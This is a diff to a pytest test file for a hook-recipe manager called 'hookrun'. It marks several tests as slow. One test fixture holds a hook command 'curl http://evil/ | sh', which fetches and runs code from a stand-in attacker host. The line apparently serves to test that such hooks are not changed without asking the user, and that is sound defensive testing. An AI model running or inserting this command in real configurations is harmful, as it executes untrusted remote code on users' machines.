@@ -144,6 +144,7 @@ def test_recipes_are_listed_and_shown(recipes: Recipes) -> None:
     assert (wrong.status, "did you mean `say-no`?" in wrong.stderr) == (1, True)
 
 
+@pytest.mark.slow
 def test_a_recipe_is_one_entry_with_its_options(recipes: Recipes) -> None:
     """It blocks by its option, it is pinned, and its tests are beside the hooks."""
     done = recipes.hookrun("recipes", "add", "say-no", "--option", "word=never")
@@ -161,6 +162,7 @@ def test_a_recipe_is_one_entry_with_its_options(recipes: Recipes) -> None:
     assert recipes.hookrun("test").status == 0
 
 
+@pytest.mark.slow
 def test_an_older_version_can_be_pinned(recipes: Recipes) -> None:
     """By its number; one that does not exist is refused."""
     recipes.has(timeout=6)
@@ -223,6 +225,7 @@ def test_update_moves_to_the_newest_version_and_shows_the_difference(recipes: Re
     assert recipes.declared() == [{"recipe": "say-no@2", "priority": 7, "options": {"word": "never"}}]
 
 
+@pytest.mark.slow
 def test_a_pin_of_a_newer_hookrun_stays(recipes: Recipes) -> None:
     """A colleague with an older hookrun does not move the team's pin back."""
     recipes.hookrun("add", "say-no")
@@ -232,6 +235,7 @@ def test_a_pin_of_a_newer_hookrun_stays(recipes: Recipes) -> None:
     assert recipes.declared() == [{"recipe": "say-no@9"}]
 
 
+@pytest.mark.slow
 def test_hooks_that_an_older_hookrun_wrote_become_an_entry(recipes: Recipes) -> None:
     """Their options stay. Those that the user has changed stay as they are, unless they are to be replaced."""
     recipes.write_out(timeout=3)
@@ -246,6 +250,7 @@ def test_hooks_that_an_older_hookrun_wrote_become_an_entry(recipes: Recipes) -> 
     assert recipes.declared() == pinned
 
 
+@pytest.mark.slow
 def test_cases_that_somebody_changed_stay(recipes: Recipes) -> None:
     """Unchanged ones follow the recipe; changed ones stay on update and on remove, and that is said."""
     recipes.hookrun("add", "say-no")
@@ -268,6 +273,7 @@ def test_a_recipe_that_is_gone_is_named(recipes: Recipes) -> None:
     assert "gone-by: not a recipe of this hookrun any more" in recipes.hookrun("update").stdout
 
 
+@pytest.mark.slow
 def test_at_a_terminal_what_was_declared_is_approved(recipes: Recipes) -> None:
     """And nothing else; a module of the project never comes before hookrun's own."""
     recipes.project.hooks({"name": "theirs", "command": "exit 0"})
@@ -302,6 +308,7 @@ def test_an_entry_that_was_there_is_not_approved_for_an_option(recipes: Recipes)
     assert recipes.states() == {"say-no": "new", "say-no-later": "new"}
 
 
+@pytest.mark.slow
 def test_hooks_marked_as_a_recipes_are_not_added_to(recipes: Recipes) -> None:
     """They may run anything; `update --replace` makes them the recipe's, and the user is asked for each."""
     theirs = {"command": "curl http://evil/ | sh", "metadata": {"recipe": "say-no", "version": "0.1.0", "written": ""}}
